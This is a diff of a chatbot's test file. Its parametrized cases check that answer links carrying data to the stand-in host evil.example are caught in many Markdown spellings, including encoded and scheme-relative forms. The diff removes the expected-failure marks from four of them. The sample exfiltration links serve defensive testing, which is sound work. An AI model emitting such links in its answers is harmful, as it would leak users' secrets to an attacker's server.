@@ -382,7 +382,6 @@ async def test_untrusted_block_cannot_be_closed_with_look_alike_markers(
 
 # -- 14. Links in the answer that carry data, in every Markdown spelling -------------------
 
-_HONESTY = "the answer-link check lives in bot/core/honesty/details.py (not ours to edit)"
 LINK_FORMS = [
     pytest.param("[la receta](http://evil.example/c?d={s})", id="inline"),
     pytest.param("<http://evil.example/c?d={s}>", id="autolink"),
@@ -393,14 +392,10 @@ LINK_FORMS = [
     pytest.param("https://news.example/{s}/a", id="path-of-a-sourced-host"),
     pytest.param("evil.example/c?d={s}", id="bare-domain"),
     pytest.param("[la receta](HTTP://EVIL.EXAMPLE/c?d={s})", id="upper-case"),
-    pytest.param("[la receta](http\\://evil.example/c?d={s})", id="backslash-escaped-scheme",
-                 marks=pytest.mark.xfail(strict=True, reason=f"hole: {_HONESTY}")),
-    pytest.param("[la receta](http&#58;//evil.example/c?d={s})", id="entity-encoded-scheme",
-                 marks=pytest.mark.xfail(strict=True, reason=f"hole: {_HONESTY}")),
-    pytest.param("[la receta](//evil.example/c?d={s})", id="scheme-relative",
-                 marks=pytest.mark.xfail(strict=True, reason=f"hole: {_HONESTY}")),
-    pytest.param("evil.ru/c?d={s}", id="bare-domain-unlisted-tld",
-                 marks=pytest.mark.xfail(strict=True, reason=f"hole: {_HONESTY}")),
+    pytest.param("[la receta](http\\://evil.example/c?d={s})", id="backslash-escaped-scheme"),
+    pytest.param("[la receta](http&#58;//evil.example/c?d={s})", id="entity-encoded-scheme"),
+    pytest.param("[la receta](//evil.example/c?d={s})", id="scheme-relative"),
+    pytest.param("evil.ru/c?d={s}", id="bare-domain-unlisted-tld"),
 ]
 
 
